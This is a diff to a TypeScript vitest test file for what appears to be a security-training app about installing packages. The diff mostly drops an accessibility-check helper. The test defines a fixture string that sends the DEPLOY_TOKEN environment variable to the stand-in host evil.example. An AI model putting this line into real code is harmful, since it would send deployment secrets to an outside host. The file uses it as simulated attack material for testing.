@@ -1,12 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import type { HostVisit } from '#contract/training/hosting.ts'
 import type { Parcel } from '#contract/training/parcels.ts'
-import {
-  addAxe,
-  CONTEXT_OPTIONS,
-  setFirstAppearance,
-  violationsInAllAppearances,
-} from './testing/appearances.ts'
+import { CONTEXT_OPTIONS, setFirstAppearance, violationsInAllAppearances } from './testing/appearances.ts'
 import { openStage, type Stage } from './testing/stage.ts'
 
 const MAIL = "require('https').get('https://evil.example/?' + process.env.DEPLOY_TOKEN)"
@@ -26,7 +21,6 @@ describe('parcels and the robot that installs them', () => {
     await shop.put('/training/hosting', { host: 'evil.example', path: '/', body: 'Thanks!' })
     const learner = await stage.learner('parcels', CONTEXT_OPTIONS)
     const { page, context, open, problems } = learner
-    await addAxe(context)
     await setFirstAppearance(learner)
     await open('/#/other-site?tab=parcels')
     await page.getByText('You have not published anything yet').waitFor()
